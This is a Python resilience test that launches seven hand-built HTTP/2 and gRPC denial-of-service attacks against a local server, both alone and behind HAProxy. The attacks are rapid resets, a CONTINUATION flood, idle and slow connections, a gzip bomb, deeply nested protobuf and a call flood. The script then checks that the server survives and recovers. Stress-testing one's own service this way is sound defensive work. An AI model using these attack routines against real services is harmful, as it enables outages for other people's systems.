#!/usr/bin/python3
"""Attacks on HTTP/2 and on gRPC over loopback: the server alone, and behind docker/haproxy.cfg.

Behind HAProxy a well-behaved client hardly notices, the server's memory comes back, and both go on listening.
Alone it is printed what the packaged gRPC core lets through; judged is only that the server lives. The attacker
is a process of its own with the lowest priority: elsewhere it would have a machine of its own.
    attacks.py [--program FILE] [--seconds N] [--quiet 1]
--seconds: how long each attack goes on at most (5). --quiet 1: the machine does nothing else, so that times are
judged, and that the attacker is thrown out in time; else they are printed.
"""
import gzip
import json
import os
import resource
import select
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../blackbox/lib"))

# ---- The attacker: knows HTTP/2 by its frames (RFC 9113) and nothing of gRPC's libraries ----

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
FROM = "127.0.0.%d"  # an address for each attack: who was thrown out stays so for a while


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(words):
    words = words.encode()
    assert len(words) < 127
    return bytes((len(words),)) + words


def headers(path, *more):
    """A header block without tables and without Huffman (RFC 7541, 6.2.2)."""
    pairs = ((":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
             ("content-type", "application/grpc"), ("te", "trailers")) + more
    return b"".join(b"\x00" + text(name) + text(value) for name, value in pairs)


HEALTH = headers("/grpc.health.v1.Health/Check")
SUBMIT = headers("/tradewake.v1.EventService/SubmitEvent")


source = None


class Connection:
    """One of the attacker's. Reads and forgets what comes, whenever it sends. In one thread: Python's TLS socket does not
    stand being read and written at once (a segmentation fault in libcrypto)."""

    def __init__(self, target, folder, speaks=True):
        self.is_closed = False
        self.socket = socket.create_connection(target, timeout=5, source_address=(source, 0))
        if folder and speaks:
            context = ssl.create_default_context(cafile=os.path.join(folder, "ours.pem"))
            context.load_cert_chain(os.path.join(folder, "client.pem"), os.path.join(folder, "client.key"))
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        if not speaks:
            return
        self.socket.setblocking(False)
        wide = struct.pack(">HI", 4, 1 << 30)
        self.send(PREFACE + frame(SETTINGS, 0, 0, wide) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))

    def take(self):
        """What has come."""
        try:
            while self.socket.recv(65536):
                pass
            self.is_closed = True
        except WOULD_BLOCK:
            pass
        except OSError:
            self.is_closed = True

    def acknowledge(self):
        self.send(frame(SETTINGS, ACK, 0))

    def send(self, data):
        """False: the other side is gone, or takes nothing for five seconds."""
        left, until = memoryview(data), time.monotonic() + 5
        while left and not self.is_closed and time.monotonic() < until:
            try:
                left = left[self.socket.send(left[:65536]):]
                until = time.monotonic() + 5
            except ssl.SSLWantReadError:
                select.select([self.socket], [], [], 1)
            except WOULD_BLOCK:
                select.select([self.socket], [self.socket], [], 1)
            except OSError:
                self.is_closed = True
            self.take()
        return not left and not self.is_closed


class Finished(Exception):
    pass


def again_and_again(target, folder, until, each):
    """`each(connection)` on one connection after another; how much of it, and how often it was thrown out."""
    done = thrown_out = refused = 0
    while time.monotonic() < until and refused < 20:
        try:
            connection = Connection(target, folder)
            connection.acknowledge()
        except OSError:
            refused += 1
            time.sleep(0.1)
            continue
        for number in each(connection):
            done += number
            if time.monotonic() > until:
                break
        else:
            thrown_out += 1
            continue
        break
    return {"sent": done, "thrown out": thrown_out, "refused": refused}


def resets(target, folder, until):
    def each(connection):
        for first in range(1, 200001, 1000):
            batch = b"".join(frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                             for stream in range(first, first + 1000, 2))
            if not connection.send(batch):
                return
            yield 500
        raise Finished

    return again_and_again(target, folder, until, each)


def continuation(target, folder, until):
    """64 MB of one header block, settings never acknowledged."""
    sent = thrown_out = 0
    piece = frame(CONTINUATION, 0, 1, (b"\x00" + text("x") + b"\x7e" + b"y" * 126) * 125)
    while time.monotonic() < until and sent < 64 << 20:
        try:
            connection = Connection(target, folder)
        except OSError:
            time.sleep(0.1)
            continue
        good = connection.send(frame(HEADERS, 0, 1, HEALTH))
        while good and time.monotonic() < until and sent < 64 << 20:
            good = connection.send(piece)
            sent += len(piece)
        thrown_out += not good
    return {"sent": sent, "thrown out": thrown_out}


def idle(target, folder, until):
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, max(4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    kept, refused = [], 0
    for _ in range(2000):
        try:
            kept.append(Connection(target, folder, speaks=False))
        except OSError:
            refused += 1
    while time.monotonic() < until:
        time.sleep(0.1)
    closed = 0
    for connection in kept:
        connection.socket.setblocking(False)
        try:
            closed += connection.socket.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    return {"sent": len(kept), "refused": refused, "thrown out": closed}


def slow(target, folder, until):
    """Headers, a byte at a time."""
    whole = frame(HEADERS, END_HEADERS, 1, HEALTH)
    connections, at = [], 0
    for _ in range(50):
        try:
            connections.append(Connection(target, folder))
        except OSError:
            pass
    while time.monotonic() < until:
        for connection in connections:
            connection.send(whole[at % len(whole):at % len(whole) + 1])
        at += 1
        time.sleep(0.25)
    return {"sent": len(connections), "thrown out": sum(connection.is_closed for connection in connections)}


def message(body, flag=0):
    """gRPC's five bytes, and DATA frames of at most 16 KiB."""
    whole = bytes((flag,)) + struct.pack(">I", len(body)) + body
    return [whole[at:at + 16384] for at in range(0, len(whole), 16384)]


def call(stream, block, pieces):
    data = frame(HEADERS, END_HEADERS, stream, block)
    for number, piece in enumerate(pieces):
        data += frame(DATA, END_STREAM if number == len(pieces) - 1 else 0, stream, piece)
    return data


def calls(target, folder, until, block, pieces, n, pause_s):
    """`n` calls of one kind over a connection, one after the other."""
    def each(connection):
        for stream in range(1, 2 * n, 2):
            if not connection.send(call(stream, block, pieces)):
                return
            yield 1
            time.sleep(pause_s)
        raise Finished

    return again_and_again(target, folder, until, each)


def bomb(target, folder, until):
    """60 MB of zeros as 60 KB of gzip, which a stream's window lets through."""
    block = headers("/tradewake.v1.EventService/SubmitEvent", ("grpc-encoding", "gzip"))
    return calls(target, folder, until, block, message(gzip.compress(b"\0" * (60 << 20)), 1), 10, 0.05)


def nesting(target, folder, until):
    body = b""
    for _ in range(6000):  # field 1, length-delimited, of itself
        size, length = len(body), b""
        while True:
            length += bytes((size & 127 | (128 if size > 127 else 0),))
            size >>= 7
            if size == 0:
                break
        body = b"\x0a" + length + body
    return calls(target, folder, until, SUBMIT, message(body), 100, 0.01)


def tiny(target, folder, until):
    """A million calls that ask for nothing, as fast as they are taken."""
    def each(connection):
        piece = message(b"")
        for first in range(1, 2000001, 200):
            if not connection.send(b"".join(call(stream, HEALTH, piece) for stream in range(first, first + 200, 2))):
                return
            yield 100
        raise Finished

    return again_and_again(target, folder, until, each)


ATTACKS = {"rapid resets": resets, "headers that never end": continuation, "idle connections": idle,
           "slow headers": slow, "gzip bomb": bomb, "deep nesting": nesting, "tiny calls": tiny}


def attack_here(name, host, port, folder, seconds):
    global source
    source = FROM % (66 + list(ATTACKS).index(name))
    try:
        result = ATTACKS[name]((host, int(port)), folder, time.monotonic() + float(seconds))
    except Finished:
        result = {"sent": "all"}
    print(json.dumps(result))


if len(sys.argv) > 1 and sys.argv[1] == "--attack":
    attack_here(*sys.argv[2:])
    sys.exit(0)

# ---- The test ----

import grpc  # noqa: E402
from blackbox import CONFIG, REPOSITORY, Client, Fleet, percentile, prove, wait_until  # noqa: E402

PROXY = os.path.join(REPOSITORY, "docker/haproxy.cfg")
MORE_MIB = 64
TIMES_MAX = 3
THROWN_OUT = ("rapid resets", "headers that never end", "tiny calls")


def certificates(folder):
    def openssl(*words):
        subprocess.run(["openssl", *words], cwd=folder, check=True, capture_output=True)

    key = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
    openssl("req", "-x509", *key, "-days", "2", "-subj", "/CN=ours", "-keyout", "ours.key", "-out", "ours.pem")
    for name in ("server", "client"):
        openssl("req", "-new", *key, "-subj", "/CN=" + name, "-keyout", name + ".key", "-out", name + ".csr")
        with open(os.path.join(folder, name + ".ext"), "w") as file:
            file.write("subjectAltName=DNS:localhost,IP:127.0.0.1\n")
        openssl("x509", "-req", "-in", name + ".csr", "-CA", "ours.pem", "-CAkey", "ours.key", "-CAcreateserial",
                "-days", "1", "-extfile", name + ".ext", "-out", name + ".pem")
    with open(os.path.join(folder, "both.pem"), "wb") as both:
        for part in ("server.pem", "server.key"):
            with open(os.path.join(folder, part), "rb") as file:
                both.write(file.read())


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class Proxy:
    """HAProxy with the file that is shipped."""

    def __init__(self, server, folder):
        self.address = "127.0.0.1:%d" % free_port()
        self.folder = folder
        self.log = open(os.path.join(folder, "proxy.log"), "wb")
        self.process = subprocess.Popen(["haproxy", "-db", "-f", PROXY], stdout=self.log, stderr=self.log, env=dict(
            os.environ, PROXY_LISTEN=self.address, PROXY_CERTIFICATE=os.path.join(folder, "both.pem"),
            PROXY_CLIENT_CA=os.path.join(folder, "ours.pem"), TRADEWAKE=server.address, TRADEWAKE_PROBE=server.admin))

    def end(self):
        self.process.terminate()
        self.process.wait(20)
        self.log.close()


def secure_client(contract, address, folder):
    def read(name):
        with open(os.path.join(folder, name), "rb") as file:
            return file.read()

    client = Client(contract, address)
    client.channel.close()
    client.channel = grpc.secure_channel(address, grpc.ssl_channel_credentials(
        read("ours.pem"), read("client.key"), read("client.pem")), options=[
            ("grpc.use_local_subchannel_pool", 1), ("grpc.ssl_target_name_override", "localhost")])
    return client


class Behaved:
    """A backend that opens and closes a position now and then, and reads its own path times."""

    def __init__(self, fleet, client):
        self.fleet, self.client = fleet, client
        self.number = 0
        self.paths_ms, self.failed = [], []
        self.stream = client.watch("MetricsService/WatchOwnTime", fleet.new("WatchOwnTimeRequest", max_batch=4096))
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        try:
            for answer in self.stream:
                self.paths_ms.extend((sample.times.upstream_ns + sample.times.called_ns) / 1e6 for sample in answer.batch.samples)
        except grpc.RpcError:
            pass

    def trade(self):
        self.number += 1
        position = "b%d" % self.number
        for event in (self.fleet.open(position), self.fleet.close(position)):
            try:
                self.client.call("EventService/SubmitEvent", self.fleet.request(event, wait_for="WAIT_FOR_SENT"))
            except Exception as error:  # noqa: B902
                self.failed.append(str(error))
        time.sleep(0.02)

    def go_on(self, goes_on):
        """Trades while `goes_on()`; p99 of the path times meanwhile, in ms, and how many."""
        del self.paths_ms[:]
        del self.failed[:]
        while goes_on():
            self.trade()
        time.sleep(0.2)
        paths = list(self.paths_ms)
        return percentile(paths, 99), len(paths)


def resident_mib(server):
    return server.status("VmRSS") / 1024


def attack(name, fleet, behaved, target, folder, seconds):
    """What the attacker says, and p99 of the behaved client meanwhile."""
    host, port = target.rsplit(":", 1)
    process = subprocess.Popen(["nice", "-n", "19", sys.executable, os.path.abspath(__file__), "--attack", name, host, port, folder or "",
                                str(seconds)], stdout=subprocess.PIPE, text=True)
    p99, n = behaved.go_on(lambda: process.poll() is None)
    said = process.stdout.read().strip()
    return json.loads(said) if said else {"sent": "?"}, p99, n


def is_listening(fleet, connect):
    client = connect()
    try:
        return client.ask("Health/Check").status == 1
    except Exception:  # noqa: B902
        return False
    finally:
        client.close()


def is_let_in(fleet, connect):
    """At last: alone, the server first works off what the attacker left it."""
    try:
        return wait_until(lambda: is_listening(fleet, connect), 60, "an answer")
    except TimeoutError:
        return False


def round_of(fleet, checks, what, connect, target, folder, seconds, judges, is_quiet=False):
    client = connect()
    behaved = Behaved(fleet, client)
    until = time.monotonic() + 2
    behaved.go_on(lambda: time.monotonic() < until)  # warm
    until = time.monotonic() + max(4, seconds / 2)
    calm, _ = behaved.go_on(lambda: time.monotonic() < until)
    print("     %s: path p99 of the client %.2f ms without an attack" % (what, calm))
    for name in ATTACKS:
        before = resident_mib(fleet.server)
        said, p99, n = attack(name, fleet, behaved, target, folder, seconds)
        peak = resident_mib(fleet.server)
        print("     %-22s %-58s p99 %7.2f ms (%4.1f x, %d copies), %d calls failed, memory %.0f -> %.0f MiB"
              % (name, said, p99, p99 / calm if calm else 0, n, len(behaved.failed), before, peak), flush=True)
        if judges:
            checks.equal("%s, %s: every call of the client is answered" % (what, name), behaved.failed[:2], [])
            if is_quiet:
                checks.true("%s, %s: its path p99 is at most %d x" % (what, name, TIMES_MAX), p99 <= TIMES_MAX * calm,
                            "%.1f ms after %.1f" % (p99, calm))
            if is_quiet and name in THROWN_OUT:
                checks.true("%s, %s: the attacker is thrown out" % (what, name), said.get("thrown out", 0) > 0, said)
            try:
                wait_until(lambda: resident_mib(fleet.server) <= before + MORE_MIB, 30, "memory")
            except TimeoutError:
                pass
            checks.true("%s, %s: memory is back within %d MiB" % (what, name, MORE_MIB),
                        resident_mib(fleet.server) <= before + MORE_MIB, resident_mib(fleet.server) - before)
        checks.true("%s, %s: who comes anew is let in" % (what, name), is_let_in(fleet, connect))
    behaved.stream.cancel()
    client.close()


def main(options, checks):
    folder = tempfile.mkdtemp(prefix="tradewake-attacks-")
    config = CONFIG + "  streams_per_peer: 4096\n"
    try:
        certificates(folder)
        with Fleet(options.program, followers=3, config=config) as fleet:
            proxy = Proxy(fleet.server, folder)
            try:
                connect = lambda: secure_client(fleet.contract, proxy.address, folder)  # noqa: E731
                wait_until(lambda: is_listening(fleet, connect), 20, "the proxy")
                round_of(fleet, checks, "behind HAProxy", connect, proxy.address, folder, options.seconds, True,
                         options.quiet != 0)
                checks.true("the proxy lives", proxy.process.poll() is None)
            finally:
                proxy.end()
            checks.equal("the server is well", fleet.server.faults(), None)
        with Fleet(options.program, followers=3, config=config) as fleet:
            round_of(fleet, checks, "alone", fleet.connect, fleet.server.address, None, options.seconds, False)
            checks.true("the server lives", fleet.server.process.poll() is None)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


prove(main, seconds=5, quiet=0)
